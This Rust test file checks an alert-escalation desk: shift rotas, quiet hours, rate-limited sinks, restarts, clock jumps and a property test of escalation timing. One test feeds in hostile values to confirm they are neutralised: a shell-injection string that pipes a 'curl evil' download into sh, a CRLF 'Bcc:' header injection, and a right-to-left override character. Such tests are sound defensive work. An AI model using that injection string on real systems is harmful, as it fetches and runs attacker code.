//! Days at the desk, with a clock of its own.
#![allow(clippy::unwrap_used, clippy::panic, clippy::indexing_slicing, reason = "tests fail by panicking")]

use std::collections::{BTreeMap, BTreeSet};
use std::time::Duration;

use hinomi_alert::{
    Acknowledgement, AlertId, Days, Delivery, Desk, Event, Fact, Kind, Language, MOST_OPEN, Moment, Outcome,
    Override, Person, Plan, Policy, Purpose, Quiet, Rota, Rung, Shift, Signal, Sink, Site, State, Step,
    Target, compose,
};
use hinomi_model::Level;
use jiff::civil::{Date, Time};
use jiff::tz::TimeZone;
use proptest::prelude::*;

const MINUTE: Duration = Duration::from_mins(1);

fn at(text: &str) -> Moment {
    text.parse::<jiff::Timestamp>().unwrap().into()
}

fn named(name: &str) -> String {
    name.to_owned()
}

/// Sinks `chat`, `mail`, `soc`; aoki by day with quiet nights, mori by night, nobody on Sunday; critical and high climb,
/// medium and low are told once.
fn plan() -> Plan {
    let tokyo = TimeZone::get("Asia/Tokyo").unwrap();
    let sink = |language, names, per_ten_minutes| Sink { language, names, per_ten_minutes };
    let night =
        Quiet { zone: tokyo.clone(), from: Time::constant(22, 0, 0, 0), to: Time::constant(7, 0, 0, 0) };
    let person = |sinks: &[&str], quiet| Person {
        sinks: sinks.iter().map(|s| named(s)).collect(),
        mail: None,
        language: None,
        quiet,
    };
    let time = |hour| Time::constant(hour, 0, 0, 0);
    let since = Date::constant(2026, 11, 2);
    let days = {
        use jiff::civil::Weekday::{Friday, Monday, Saturday, Thursday, Tuesday, Wednesday};
        [Monday, Tuesday, Wednesday, Thursday, Friday, Saturday].into_iter().fold(Days::default(), Days::and)
    };
    let shift =
        |who: &str, from, to| Shift { people: vec![named(who)], since, days, from: time(from), to: time(to) };
    let rota = Rota {
        zone: tokyo.clone(),
        shifts: vec![shift("aoki", 8, 20), shift("mori", 20, 8)],
        overrides: Vec::<Override>::new(),
        otherwise: vec![Target::Sink(named("soc"))],
    };
    let rung = |tell: &[Target], minutes: u64| Rung { tell: tell.to_vec(), after: MINUTE * minutes as u32 };
    let urgent = Policy {
        rungs: vec![
            rung(&[Target::Rota(named("ops"))], 0),
            rung(&[Target::Person(named("head"))], 15),
            rung(&[Target::Sink(named("soc"))], 30),
        ],
        repeat: Some(MINUTE * 60),
        acknowledge: true,
    };
    let office =
        Policy { rungs: vec![rung(&[Target::Person(named("aoki"))], 0)], repeat: None, acknowledge: false };
    let route = |level, policy: &str| (level, named(policy));
    Plan {
        zone: tokyo,
        window: MINUTE * 60,
        give_up: MINUTE * 1_440,
        routes: BTreeMap::from([
            route(Level::Critical, "urgent"),
            route(Level::High, "urgent"),
            route(Level::Medium, "office"),
            route(Level::Low, "office"),
        ]),
        sinks: BTreeMap::from([
            (named("chat"), sink(Language::Ja, true, 20)),
            (named("mail"), sink(Language::En, true, 20)),
            (named("soc"), sink(Language::En, false, 20)),
        ]),
        people: BTreeMap::from([
            (named("aoki"), person(&["chat"], Some(night))),
            (named("mori"), person(&["chat", "mail"], None)),
            (named("head"), person(&["mail"], None)),
        ]),
        rotas: BTreeMap::from([(named("ops"), rota)]),
        policies: BTreeMap::from([(named("urgent"), urgent), (named("office"), office)]),
    }
}

fn signal(level: Level, rule: &str, host: &str) -> Signal {
    Signal {
        kind: Kind::Detection,
        id: format!("{rule}{host}"),
        rule: named(rule),
        level,
        title: named("Domain replication requested"),
        title_ja: Some(named("ドメイン複製の要求")),
        time: Some(named("2026-11-24T01:00:00.000000000Z")),
        host: named(host),
        account: named("KAISHA\\mika"),
        evidence: Some(named("log:hinomi/1f/12/0")),
    }
}

/// A desk whose sinks work as `works` says, and everything that was sent.
struct Days2 {
    plan: Plan,
    desk: Desk,
    now: Moment,
    broken: BTreeSet<String>,
    steps: Vec<Step>,
    sent: Vec<(Moment, Delivery)>,
}

impl Days2 {
    fn begin(now: &str) -> Self {
        let (plan, now) = (plan(), at(now));
        plan.check().unwrap();
        Self { plan, desk: Desk::new(), now, broken: BTreeSet::new(), steps: Vec::new(), sent: Vec::new() }
    }

    fn happens(&mut self, event: Event<'_>) {
        let steps = self.desk.step(&self.plan, self.now, event);
        self.steps.extend(steps);
        self.send();
    }

    fn signals(&mut self, signals: &[Signal]) {
        self.happens(Event::Signals(signals));
    }

    fn acknowledge(&mut self, alert: u64) {
        let who =
            Acknowledgement { by: named("aoki"), uid: Some(0), at: Moment::default(), note: String::new() };
        self.happens(Event::Acknowledge { alert: AlertId(alert), who });
    }

    fn send(&mut self) {
        let ready: Vec<Delivery> = self.desk.ready(self.now).into_iter().cloned().collect();
        for delivery in ready {
            let outcome = if self.broken.contains(&delivery.to.sink) {
                Outcome::Again { why: named("down"), after: None }
            } else {
                self.sent.push((self.now, delivery.clone()));
                Outcome::Sent
            };
            let event = Event::Tried { delivery: delivery.id, outcome };
            let steps = self.desk.step(&self.plan, self.now, event);
            self.steps.extend(steps);
        }
    }

    fn pass(&mut self, minutes: u64) {
        for _ in 0..minutes {
            self.now = self.now.plus(MINUTE);
            self.happens(Event::Tick);
        }
    }

    /// Everything but the saved bytes is lost.
    fn restart(&mut self) {
        let bytes = serde_json::to_vec(&self.desk).unwrap();
        let read: Desk = serde_json::from_slice(&bytes).unwrap();
        self.desk = read.restored();
    }

    /// What was sent: minutes since the beginning, sink, person.
    fn log(&self, from: &str) -> Vec<String> {
        let from = at(from);
        let line = |(at, d): &(Moment, Delivery)| {
            let minutes = at.since(from).as_secs() / 60;
            let person = d.to.person.as_deref().unwrap_or("-");
            let what = match &d.purpose {
                Purpose::Alert { rung, round, .. } => format!("{rung}.{round}"),
                Purpose::Summary { .. } => named("summary"),
                Purpose::HandOver { .. } => named("hand-over"),
                Purpose::Test { .. } => named("test"),
            };
            format!("{minutes} {} {person} {what}", d.to.sink)
        };
        self.sent.iter().map(line).collect()
    }

    /// The same facts make the same desk.
    fn is_the_sum_of_its_steps(&self) {
        let mut again = Desk::new();
        for (number, step) in self.steps.iter().enumerate() {
            assert_eq!(step.number, number as u64);
            let written = serde_json::to_vec(step).unwrap();
            again.apply(&serde_json::from_slice(&written).unwrap());
        }
        let comparable = |desk: &Desk| {
            let mut value = serde_json::to_value(desk).unwrap();
            // When it was last asked is no fact.
            value["last"] = serde_json::Value::Null;
            value
        };
        assert_eq!(comparable(&again), comparable(&self.desk));
    }
}

/// Tuesday 10:00 in Tokyo.
const MORNING: &str = "2026-11-24T01:00:00Z";

#[test]
fn thousands_of_detections_are_one_alert() {
    let mut days = Days2::begin(MORNING);
    let many = vec![signal(Level::High, "r1", "WS5"); 2_500];
    days.signals(&many);
    days.pass(1);
    days.signals(&vec![signal(Level::High, "r1", "ws5"); 2_500]);
    assert_eq!(days.log(MORNING), ["0 chat aoki 1.0"]);
    let alert = days.desk.alert(AlertId(1)).unwrap();
    assert_eq!((alert.count, alert.signals.len()), (5_000, 5));
    assert_eq!(days.desk.alerts().count(), 1);
    days.is_the_sum_of_its_steps();
}

#[test]
fn what_comes_behind_the_window_is_new_once_somebody_took_care() {
    let mut days = Days2::begin(MORNING);
    let one = [signal(Level::High, "r1", "ws5")];
    days.signals(&one);
    days.pass(90);
    // Open: counted, however late.
    days.signals(&one);
    assert_eq!(days.desk.alerts().count(), 1);
    days.acknowledge(1);
    days.signals(&one);
    assert_eq!(days.desk.alerts().count(), 2, "the window has passed");
    days.acknowledge(2);
    days.pass(59);
    days.signals(&one);
    assert_eq!((days.desk.alerts().count(), days.desk.alert(AlertId(2)).unwrap().count), (2, 2));
    days.pass(2);
    days.signals(&one);
    assert_eq!(days.desk.alerts().count(), 3);
    days.is_the_sum_of_its_steps();
}

#[test]
fn nobody_acknowledges_for_days() {
    let mut days = Days2::begin(MORNING);
    days.signals(&[signal(Level::Critical, "r1", "dc01")]);
    days.pass(12 * 60);
    // Every round: whoever is on shift, then the head, then the company outside, and an hour later anew. 10:00 and 10 hours
    // is 20:00, when the shift of mori begins.
    let mut expected = Vec::new();
    for round in 0..8_u64 {
        let from = round * 90;
        if from >= 600 && !expected.iter().any(|l: &String| l.contains("hand-over")) {
            expected.extend(["600 chat mori hand-over".to_owned(), "600 mail mori hand-over".to_owned()]);
        }
        if from < 600 {
            expected.push(format!("{from} chat aoki 1.{round}"));
        } else {
            expected.extend([format!("{from} chat mori 1.{round}"), format!("{from} mail mori 1.{round}")]);
        }
        expected.push(format!("{} mail head 2.{round}", from + 15));
        expected.push(format!("{} soc - 3.{round}", from + 30));
    }
    expected.push("720 chat mori 1.8".to_owned());
    expected.push("720 mail mori 1.8".to_owned());
    assert_eq!(days.log(MORNING), expected);
    days.acknowledge(1);
    let before = days.sent.len();
    days.pass(2 * 1_440);
    assert_eq!(days.sent.len(), before);
    days.is_the_sum_of_its_steps();
}

#[test]
fn nobody_on_shift_is_handed_outside_and_said() {
    // Sunday 10:00 in Tokyo: the night of Saturday has ended at 08:00.
    let sunday = "2026-11-29T01:00:00Z";
    let mut days = Days2::begin(sunday);
    days.signals(&[signal(Level::High, "r1", "dc01")]);
    assert_eq!(days.log(sunday), ["0 soc - 1.0"]);
    let (now, delivery) = days.sent[0].clone();
    let letter = compose(&days.desk, &days.plan, &site(), &delivery, now);
    assert!(letter.text.contains("Nobody is on shift in ops: handed to soc."), "{}", letter.text);
    assert_eq!(letter.fields["nobody_on_shift_in"], "ops");
}

#[test]
fn quiet_hours_delay_what_can_wait_and_nothing_else() {
    // Tuesday 23:00 in Tokyo.
    let night = "2026-11-24T14:00:00Z";
    let mut days = Days2::begin(night);
    days.plan.rotas.get_mut("ops").unwrap().shifts = vec![Shift {
        people: vec![named("aoki")],
        since: Date::constant(2026, 11, 2),
        days: Days::ALL,
        from: Time::midnight(),
        to: Time::midnight(),
    }];
    days.signals(&[signal(Level::Medium, "r1", "a"), signal(Level::Low, "r2", "b")]);
    days.signals(&[signal(Level::Critical, "r3", "c"), signal(Level::High, "r4", "d")]);
    assert_eq!(days.log(night), ["0 chat aoki 1.0", "0 chat aoki 1.0"]);
    days.acknowledge(3);
    days.acknowledge(4);
    days.pass(479);
    assert_eq!(days.sent.len(), 2);
    days.pass(1);
    // 07:00.
    assert_eq!(days.log(night)[2..], ["480 chat aoki summary"]);
    assert_eq!(days.sent[2].1.alerts, [AlertId(1), AlertId(2)]);
    days.is_the_sum_of_its_steps();
}

#[test]
fn what_a_sink_cannot_take_is_in_summaries() {
    let mut days = Days2::begin(MORNING);
    let signals: Vec<Signal> = (0..300).map(|n| signal(Level::High, "r1", &format!("ws{n}"))).collect();
    days.signals(&signals);
    assert_eq!(days.sent.len(), 20);
    days.pass(10);
    let summary = &days.sent[20].1;
    let Purpose::Summary { more } = summary.purpose else { panic!("{summary:?}") };
    assert_eq!((summary.alerts.len() as u64 + more, days.sent.len()), (280, 21));
    let letter = compose(&days.desk, &days.plan, &site(), summary, days.now);
    assert!(letter.text.contains("他に 180 件"), "{}", letter.text);
    days.is_the_sum_of_its_steps();
}

#[test]
fn open_alerts_are_bounded_and_nothing_is_dropped() {
    let mut days = Days2::begin(MORNING);
    for part in 0..12 {
        let signals: Vec<Signal> =
            (0..1_000).map(|n| signal(Level::High, "r1", &format!("ws{part}-{n}"))).collect();
        days.signals(&signals);
    }
    assert_eq!(days.desk.alerts().count(), MOST_OPEN + 1);
    let counted: u64 = days.desk.alerts().map(|alert| alert.count).sum();
    assert_eq!(counted, 12_000);
}

#[test]
fn a_refusal_hastens_the_next_step() {
    let mut days = Days2::begin(MORNING);
    days.broken.extend([named("chat"), named("mail"), named("soc")]);
    days.signals(&[signal(Level::Critical, "r1", "dc01")]);
    let first = days.desk.deliveries().next().unwrap().id;
    days.broken.clear();
    let refused = Outcome::Refused { why: named("550 no such user\r\nX") };
    days.happens(Event::Tried { delivery: first, outcome: refused });
    assert_eq!(days.log(MORNING), ["0 mail head 2.0"]);
    assert!(days.steps.iter().any(|s| matches!(&s.fact, Fact::GivenUp { why, .. } if !why.contains('\n'))));
    days.is_the_sum_of_its_steps();
}

#[test]
fn clocks_that_jump() {
    let mut days = Days2::begin(MORNING);
    days.broken.insert(named("chat"));
    days.signals(&[signal(Level::Critical, "r1", "dc01")]);
    // A year back: what was due in 15 minutes is due in 15 minutes.
    days.now = at("2025-11-24T01:00:00Z");
    days.pass(14);
    assert!(days.sent.is_empty());
    days.pass(2);
    assert_eq!(days.sent[0].1.to.sink, "mail");
    // Two days ahead: nothing is given up for that alone.
    days.now = days.now.plus(Duration::from_hours(48));
    days.happens(Event::Tick);
    assert!(!days.steps.iter().any(|s| matches!(s.fact, Fact::GivenUp { .. })));
    days.is_the_sum_of_its_steps();
}

#[test]
fn messages_that_nobody_takes_are_given_up_and_counted() {
    let mut days = Days2::begin(MORNING);
    days.broken.insert(named("chat"));
    days.signals(&[signal(Level::Medium, "r1", "a")]);
    days.pass(1_440 + 20);
    assert_eq!(days.desk.deliveries().count(), 0);
    let failed = days.steps.iter().filter(|s| matches!(s.fact, Fact::Failed { .. })).count();
    assert!((90..130).contains(&failed), "{failed} attempts in a day");
    assert_eq!(days.desk.counts().collect::<Vec<_>>(), [("chat", 0, failed as u64, 1)]);
    days.is_the_sum_of_its_steps();
}

#[test]
fn a_configuration_that_changed() {
    let mut days = Days2::begin(MORNING);
    days.broken.insert(named("chat"));
    days.signals(&[signal(Level::Critical, "r1", "dc01")]);
    // Chat is gone, and the policy has another name.
    days.plan.sinks.remove("chat");
    let policy = days.plan.policies.remove("urgent").unwrap();
    days.plan.policies.insert(named("pressing"), policy);
    days.plan.routes.insert(Level::Critical, named("pressing"));
    days.restart();
    days.pass(31);
    assert_eq!(days.log(MORNING), ["15 mail head 2.0", "30 soc - 3.0"]);
    days.is_the_sum_of_its_steps();
}

fn site() -> Site {
    Site {
        log_zone: "Asia/Tokyo".to_owned(),
        name: named("logs.example.jp"),
        instance: named("i7"),
        data: named("/var/lib/hinomi"),
        secret: [7; 32],
    }
}

#[test]
fn both_languages_tell_the_same() {
    let mut days = Days2::begin(MORNING);
    days.signals(&[signal(Level::Critical, "rule-1", "dc01"), signal(Level::Critical, "rule-1", "dc01")]);
    let delivery = days.sent[0].1.clone();
    for (language, words) in [
        (Language::En, ["CRITICAL", "Credential used: KAISHA\\mika (who used it is not known)", "2 times"]),
        (Language::Ja, ["緊急", "使われた認証情報: KAISHA\\mika(誰が使ったかは不明)", "2 回"]),
    ] {
        days.plan.sinks.get_mut("chat").unwrap().language = language;
        let letter = compose(&days.desk, &days.plan, &site(), &delivery, days.now);
        let all = format!("{}\n{}", letter.subject, letter.text);
        for word in words.into_iter().chain([
            "A1",
            "dc01",
            "2026-11-24 10:00:00 +09:00 (Asia/Tokyo)",
            "log:hinomi/1f/12/0",
            "rule-1",
            "hinomi alert ack A1 --by NAME --data /var/lib/hinomi",
            "hinomi investigate /var/lib/hinomi --host dc01 --tz Asia/Tokyo",
            "2026-11-24 10:15:00 +09:00 (Asia/Tokyo)",
        ]) {
            assert!(all.contains(word), "{language:?} lacks {word}: {all}");
        }
        assert_eq!(letter.id, format!("i7-{}", delivery.id));
    }
}

#[test]
fn without_names_no_account_is_told_and_equal_ones_stay_equal() {
    let mut days = Days2::begin(MORNING);
    let mut other = signal(Level::Critical, "rule-1", "dc02");
    other.account = named("kaisha\\MIKA");
    days.signals(&[signal(Level::Critical, "rule-1", "dc01"), other]);
    let mut told = BTreeSet::new();
    for (_, delivery) in days.sent.clone() {
        days.plan.sinks.get_mut("chat").unwrap().names = false;
        let letter = compose(&days.desk, &days.plan, &site(), &delivery, days.now);
        let all = format!("{}{}{}", letter.subject, letter.text, letter.fields).to_lowercase();
        assert!(!all.contains("mika"), "{all}");
        told.insert(letter.fields["alerts"][0]["account"].as_str().unwrap().to_owned());
    }
    assert_eq!(told.len(), 1, "{told:?}");
}

#[test]
fn hostile_values_do_not_forge_lines() {
    let mut days = Days2::begin(MORNING);
    let mut hostile = signal(Level::Critical, "r\n1", "ws5\nAcknowledged by boss\u{202e}");
    hostile.host.push_str("'; curl evil | sh; '");
    hostile.title = format!("a\r\nBcc: x{}", "y".repeat(100_000));
    hostile.title_ja = None;
    days.signals(&[hostile]);
    let delivery = days.sent[0].1.clone();
    let letter = compose(&days.desk, &days.plan, &site(), &delivery, days.now);
    assert!(letter.subject.len() < 3_000 && letter.text.len() < 8_000, "{}", letter.text.len());
    assert!(!letter.subject.contains('\n') && !letter.text.contains('\u{202e}'));
    assert!(!letter.text.lines().any(|line| line.starts_with("Acknowledged") || line.starts_with("Bcc")));
    assert!(letter.text.contains("'\\''; curl evil | sh; '\\'''"), "{}", letter.text);
}

#[derive(Clone, Debug)]
enum Op {
    Pass(u64),
    Signal(u8, bool),
    Break(u8),
    Mend(u8),
    Acknowledge(u64),
    Restart,
}

fn op() -> impl Strategy<Value = Op> {
    prop_oneof![
        6 => (1_u64..200).prop_map(Op::Pass),
        4 => (0_u8..4, any::<bool>()).prop_map(|(host, critical)| Op::Signal(host, critical)),
        2 => (0_u8..3).prop_map(Op::Break),
        2 => (0_u8..3).prop_map(Op::Mend),
        1 => (1_u64..6).prop_map(Op::Acknowledge),
        2 => Just(Op::Restart),
    ]
}

/// Of an alert that nobody acknowledged, the minutes behind its making at which each step of the first round is due.
const DUE: [u64; 3] = [0, 15, 30];

proptest! {
    #![proptest_config(ProptestConfig { cases: 150, failure_persistence: None, ..ProptestConfig::default() })]

    /// Whatever fails, whoever acknowledges and however often it begins anew: a critical alert was acknowledged, or its
    /// steps were taken in time, and each arrived at its sink once that works.
    #[test]
    fn critical_alerts_reach_every_step(ops in prop::collection::vec(op(), 1..40)) {
        let sinks = ["chat", "mail", "soc"];
        let mut days = Days2::begin(MORNING);
        days.plan.give_up = MINUTE * 100_000;
        let mut ever_broken = BTreeSet::new();
        for op in ops {
            match op {
                Op::Pass(minutes) => days.pass(minutes),
                Op::Signal(host, critical) => {
                    let level = if critical { Level::Critical } else { Level::Medium };
                    days.signals(&[signal(level, if critical { "r1" } else { "r2" }, &host.to_string())]);
                }
                Op::Break(n) => {
                    ever_broken.insert(sinks[usize::from(n)]);
                    days.broken.insert(named(sinks[usize::from(n)]));
                }
                Op::Mend(n) => drop(days.broken.remove(sinks[usize::from(n)])),
                Op::Acknowledge(alert) => days.acknowledge(alert),
                Op::Restart => days.restart(),
            }
        }
        days.broken.clear();
        days.pass(60);
        days.is_the_sum_of_its_steps();
        for alert in days.desk.alerts().filter(|alert| alert.level == Level::Critical) {
            let acknowledged = match &alert.state {
                State::Acknowledged(who) => Some(who.at),
                _ => None,
            };
            for (number, after) in DUE.into_iter().enumerate() {
                let due = alert.made.plus(MINUTE * after as u32);
                if acknowledged.is_some_and(|when| when <= due) || due.plus(MINUTE * 30) > days.now {
                    continue;
                }
                let climbed = days.steps.iter().find_map(|step| match &step.fact {
                    Fact::Climbed { alert: of, taken, round: 0, told, .. }
                        if *of == alert.id && *taken == number + 1 => Some((step.at, told.clone())),
                    _ => None,
                });
                let (taken, told) = climbed.expect("the step was taken");
                prop_assert!(taken.since(due) <= MINUTE, "{} step {number} late", alert.id);
                prop_assert!(!told.is_empty());
                for to in told {
                    let arrived = days.sent.iter().find(|(when, d)| {
                        *when >= due && d.to == to && d.alerts.contains(&alert.id)
                    });
                    match arrived {
                        Some((when, _)) => prop_assert!(
                            ever_broken.contains(to.sink.as_str()) || when.since(due) <= MINUTE * 11,
                            "{} reached {} late", alert.id, to.sink
                        ),
                        // Withdrawn, because somebody took care while the sink was broken.
                        None => prop_assert!(acknowledged.is_some() && to.person.is_some(),
                            "{} never reached {}", alert.id, to.sink),
                    }
                }
            }
            if let Some(when) = acknowledged {
                let later = days.steps.iter().any(|step| step.at > when
                    && matches!(&step.fact, Fact::Climbed { alert: of, .. } if *of == alert.id));
                prop_assert!(!later);
            }
        }
    }
}
